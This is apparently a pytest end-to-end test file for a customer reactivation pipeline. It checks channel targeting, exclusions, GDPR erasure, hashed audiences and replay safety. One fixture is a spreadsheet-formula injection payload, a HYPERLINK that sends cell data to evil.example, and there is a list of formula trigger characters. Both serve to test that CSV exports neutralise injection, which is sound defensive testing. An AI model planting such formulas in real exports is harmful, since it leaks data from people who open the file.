"""Reactivation end to end: one landing set run on two consecutive days into one warehouse
(each run live: the as-of date is the day of the run), then a replay of an earlier date.

The people, all dormant retail customers unless said (a household each):
- R-EMAIL (email-active: opened a newsletter), first name a spreadsheet formula;
- R-SMS (SMS only, a mobile), R-POSTAL (post only);
- R-ERASE (email-active), who asks for erasure on day 2;
- R-COLD (email, but no open or click for 12 months: over the deliverability cap);
- R-AUDIENCE (consented to nothing);
- R-ATRISK (no purchase in the window, but visited 20 days ago: declining activity);
- R-LATE (got wave 1 from the marketing tool on 1 June: wave 2 is due on day 2);
- R-ACTIVE (bought a month ago).
The email contacts but R-COLD opened a newsletter in March (email-active; opens are not
activity).
"""

from __future__ import annotations

import csv
import hashlib
from pathlib import Path

import pytest
from main_job import query, run_main_job
from planted_landing import Landing

DAY_1, DAY_2, EARLIER = "2026-06-30", "2026-07-01", "2026-06-29"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def reactivation_landing() -> Landing:
    land = Landing()
    for person in ("R-EMAIL", "R-SMS", "R-POSTAL", "R-ERASE", "R-COLD", "R-AUDIENCE",
                   "R-ATRISK", "R-LATE", "R-ACTIVE"):
        account = land.person(person, last_name=person.split("-")[1].title())
        land.order(account, person, "2026-06-01" if person == "R-ACTIVE" else "2025-06-01")
    individuals = {row["individual_id"]: row for row in land.rows["individuals"]}
    individuals["R-EMAIL"]["first_name"] = FORMULA_NAME
    individuals["R-EMAIL"]["postal_opt_in"] = "false"
    individuals["R-SMS"].update(email_opt_in="false", sms_opt_in="true", postal_opt_in="false")
    individuals["R-POSTAL"].update(email_opt_in="false")
    individuals["R-AUDIENCE"].update(email_opt_in="false", postal_opt_in="false")
    # opens are not activity: these two stay dormant, but count as email-active
    land.event("campaigns", campaign_id="C-NEWS", name="March newsletter",
               campaign_type="newsletter", channel="email", content_type="newsletter",
               cost_per_contact=0.004, launched_at="2026-03-01T09:00:00")
    for person in ("R-EMAIL", "R-ERASE", "R-ATRISK", "R-LATE"):
        for event_type in ("sent", "open"):
            land.event("email_events", individual_id=person, campaign_id="C-NEWS",
                       event_type=event_type, occurred_at="2026-03-01T09:00:00")
    land.event("campaigns", campaign_id="C-REACT-1", name="Reactivation wave 1",
               campaign_type="reactivation", channel="email", content_type="we miss you",
               wave=1, cost_per_contact=0.004, launched_at="2026-06-01T09:00:00")
    land.event("email_events", individual_id="R-LATE", campaign_id="C-REACT-1",
               event_type="sent", occurred_at="2026-06-01T09:00:00")
    land.event("web_sessions", individual_id="R-ATRISK", started_at="2026-06-10T18:00:00",
               channel="web", page_views=4)
    # known from day 2 on (on day 1 the row is dated after the day of the run)
    land.event("erasure_requests", individual_id="R-ERASE", requested_at=f"{DAY_2}T09:00:00")
    return land


def read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.fixture(scope="module")
def two_days(tmp_path_factory: pytest.TempPathFactory) -> dict:
    folder = tmp_path_factory.mktemp("reactivation")
    landing = folder / "landing"
    reactivation_landing().write(landing)
    warehouse = folder / "warehouse.duckdb"
    exports = folder / "exports"  # the default: beside the warehouse
    state: dict = {"warehouse": warehouse, "exports": exports, "landing": landing}
    for day in (DAY_1, DAY_2):
        result = run_main_job(landing, warehouse, day, RUN_DATE=day)
        assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
        state[day] = {
            "stdout": result.stdout,
            "targets": {row[0]: row[1:] for row in query(
                warehouse, "select individual_id, scenario, wave, channel "
                           "from marts.reactivation_targets")},
            "exclusions": dict(query(
                warehouse, "select individual_id, reason_codes from marts.reactivation_exclusions")),
            "audience": query(warehouse, "select individual_id, hashed_email, hashed_phone "
                                         "from marts.reactivation_custom_audience"),
            "files": {path.name: read_csv(path) for path in exports.glob(f"*_{day}.csv")},
        }
    return state


def test_day_one_targets_each_channel_at_the_right_step(two_days: dict) -> None:
    assert two_days[DAY_1]["targets"] == {
        "R-EMAIL": ("reactivation", 1, "email"),
        "R-SMS": ("reactivation", 1, "sms"),
        "R-POSTAL": ("reactivation", 1, "postal"),
        "R-ERASE": ("reactivation", 1, "email"),
        "R-ATRISK": ("declining_activity", 1, "email"),
    }
    exclusions = two_days[DAY_1]["exclusions"]
    # A = 2 email-active contacts in wave 1 allow floor(2 / 9) = 0 email-inactive ones
    assert exclusions["R-COLD"] == ["deferred_by_deliverability_cap"]
    # wave 1 came from the marketing tool on 1 June: wave 2 is due 30 days later
    assert exclusions["R-LATE"] == ["next_step_not_due"]
    assert "no_reachable_channel" in exclusions["R-AUDIENCE"]
    assert "household_not_inactive" in exclusions["R-ACTIVE"]
    # everyone once: a target or an exclusion
    assert len(two_days[DAY_1]["targets"]) + len(exclusions) == 9


def test_the_custom_audience_holds_hashes_only(two_days: dict) -> None:
    email_hash = hashlib.sha256(b"r-audience@example.fr").hexdigest()
    phone_hash = hashlib.sha256(b"+33612345678").hexdigest()
    assert two_days[DAY_1]["audience"] == [("R-AUDIENCE", email_hash, phone_hash)]
    audience = two_days[DAY_1]["files"][f"reactivation_custom_audience_{DAY_1}.csv"]
    assert audience == [{"individual_id": "R-AUDIENCE", "scenario": "reactivation", "wave": "1",
                         "hashed_email": email_hash, "hashed_phone": phone_hash}]


def test_exports_per_channel_with_formula_injection_neutralised(two_days: dict) -> None:
    files = two_days[DAY_1]["files"]
    assert set(files) == {f"reactivation_{kind}_{DAY_1}.csv"
                          for kind in ("email", "sms", "postal", "custom_audience")}
    emails = {row["individual_id"]: row for row in files[f"reactivation_email_{DAY_1}.csv"]}
    assert set(emails) == {"R-EMAIL", "R-ERASE", "R-ATRISK"}
    assert emails["R-EMAIL"]["first_name"] == "'" + FORMULA_NAME
    assert emails["R-EMAIL"]["email"] == "r-email@example.fr"
    [sms] = files[f"reactivation_sms_{DAY_1}.csv"]
    assert (sms["individual_id"], sms["phone_e164"]) == ("R-SMS", "'+33612345678")
    [letter] = files[f"reactivation_postal_{DAY_1}.csv"]
    assert letter["individual_id"] == "R-POSTAL" and letter["line_6"] == "75002 PARIS"
    for name, rows in files.items():
        for row in rows:
            assert not any(value.startswith(TRIGGERS) for value in row.values()), (name, row)


def test_the_next_day_sends_no_step_twice_and_the_log_keeps_both_days(two_days: dict) -> None:
    day_one, day_two = two_days[DAY_1]["targets"], two_days[DAY_2]["targets"]
    # every step of day 1 is logged: the next ones are not due for 30 days (waves) or 7
    # days (declining activity); R-LATE's wave 2 falls due today
    assert day_two == {"R-LATE": ("reactivation", 2, "email")}
    assert "next_step_not_due" in two_days[DAY_2]["exclusions"]["R-ATRISK"]
    assert "next_step_not_due" in two_days[DAY_2]["exclusions"]["R-EMAIL"]
    # the deferred contact was not logged: still due, still over the cap
    assert two_days[DAY_2]["exclusions"]["R-COLD"] == ["deferred_by_deliverability_cap"]
    logged = query(two_days["warehouse"], "select as_of_date::varchar, individual_id, wave "
                                          "from reactivation.contact_log order by all")
    assert [row for row in logged if row[0] == DAY_1] == sorted(
        (DAY_1, person, target[1]) for person, target in day_one.items())
    assert [row for row in logged if row[0] == DAY_2] == sorted(
        (DAY_2, person, target[1]) for person, target in day_two.items())


def test_an_erased_person_is_in_no_export(two_days: dict) -> None:
    """R-ERASE was exported on day 1, then asked for erasure: day 2 erases them, and the day-1
    file on disk loses their row (the others stay)."""
    assert query(two_days["warehouse"], "select lifecycle_stage from marts.individual_activity "
                                        "where individual_id = 'R-ERASE'") == [("erased",)]
    assert "R-ERASE" not in two_days[DAY_2]["targets"]
    for path in two_days["exports"].glob("*.csv"):
        text = path.read_text(encoding="utf-8")
        assert "R-ERASE" not in text and "r-erase@" not in text, path.name
    day_one_emails = read_csv(two_days["exports"] / f"reactivation_email_{DAY_1}.csv")
    assert {row["individual_id"] for row in day_one_emails} == {"R-EMAIL", "R-ATRISK"}


def test_the_run_prints_the_reactivation_summary_and_export_paths(two_days: dict) -> None:
    stdout = two_days[DAY_1]["stdout"]
    assert "reactivation targets: 5" in stdout
    assert "reactivation step 1 email" in stdout and "declining_activity step 1 email" in stdout
    assert "deferred_by_deliverability_cap" in stdout
    assert str(two_days["exports"]) in stdout and f"reactivation_sms_{DAY_1}.csv" in stdout


def test_a_replay_of_an_earlier_date_publishes_nothing(two_days: dict) -> None:
    """The contact log only moves forward: replaying a date before its latest writes no row
    and no file (what the marketing tools would receive must not be rewritten after the fact)."""
    warehouse, exports = two_days["warehouse"], two_days["exports"]
    log_before = query(warehouse, "select * from reactivation.contact_log order by all")
    files_before = {path.name: path.read_bytes() for path in exports.iterdir()}
    result = run_main_job(two_days["landing"], warehouse, EARLIER, RUN_DATE=DAY_2)
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    assert "no export" in result.stdout
    assert query(warehouse, "select * from reactivation.contact_log order by all") == log_before
    assert {path.name: path.read_bytes() for path in exports.iterdir()} == files_before
    # the targets mart shows the replayed date, for audit
    assert query(warehouse, "select distinct as_of_date::varchar from marts.reactivation_targets"
                 ) in ([(EARLIER,)], [])
